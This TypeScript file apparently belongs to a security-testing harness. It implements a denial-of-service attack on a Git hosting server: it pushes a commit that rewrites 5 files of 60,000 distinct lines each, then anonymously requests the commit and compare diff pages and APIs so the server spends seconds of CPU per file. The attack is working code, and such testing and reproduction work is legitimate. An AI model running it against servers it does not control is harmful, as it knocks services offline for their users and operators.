// Finding 2: one commit whose line diffs cost the server seconds per file.
import { once, type Attack } from '../attack.js';
import { commitFiles, repoWithFiles } from '../git-push.js';
import { describeError, request } from '../http.js';

const FILES = 5;
const LINES = 60_000;

/**
 * Lines that share nothing between versions, so the edit script is as long as both files; short
 * enough that a file stays under the diff's per-file size limit (512 KiB) and is diffed at all.
 */
function fileVersion(file: number, version: number): string {
  const lines: string[] = [];
  for (let line = 0; line < LINES; line++) lines.push(`${version}${file}${line.toString(36)}`);
  return `${lines.join('\n')}\n`;
}

const rewrite = once(async (ctx) => {
  const { attacker } = await ctx.accounts();
  const name = ctx.unique('diff');
  await ctx.api.createRepo(attacker, name);
  const dir = await ctx.scratch('diff');
  const files = (version: number) =>
    Object.fromEntries(Array.from({ length: FILES }, (_, file) => [`file${file}.txt`, fileVersion(file, version)]));
  await repoWithFiles(ctx.git, dir, files(1), 'before');
  const before = (await ctx.git.git(['rev-parse', 'HEAD'], { cwd: dir })).stdout.trim();
  const after = await commitFiles(ctx.git, dir, files(2), 'rewrite every line');
  await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(attacker, attacker.name, name), 'main'], { cwd: dir });
  return { owner: attacker.name, name, before, after };
});

function diffPage(name: string, path: (repo: Awaited<ReturnType<typeof rewrite>>) => string): Attack {
  return {
    name,
    finding: '2',
    async prepare(ctx) {
      const repo = await rewrite(ctx);
      return async (limits) => {
        try {
          // Anonymous: the repository is public.
          const answer = await request(ctx.target.base() + path(repo), { timeoutMs: limits.remainingMs(), signal: limits.signal });
          return `${answer.status} after ${(answer.ms / 1000).toFixed(1)} s (${FILES} files × ${LINES} lines rewritten)`;
        } catch (error) {
          return describeError(error);
        }
      };
    },
  };
}

export const diffCpuAttacks: Attack[] = [
  diffPage('diff-commit-page', (r) => `/${r.owner}/${r.name}/commit/${r.after}`),
  diffPage('diff-commit-api', (r) => `/api/v1/repos/${r.owner}/${r.name}/commits/${r.after}`),
  diffPage('diff-compare-api', (r) => `/api/v1/repos/${r.owner}/${r.name}/compare/${r.before}...${r.after}`),
];
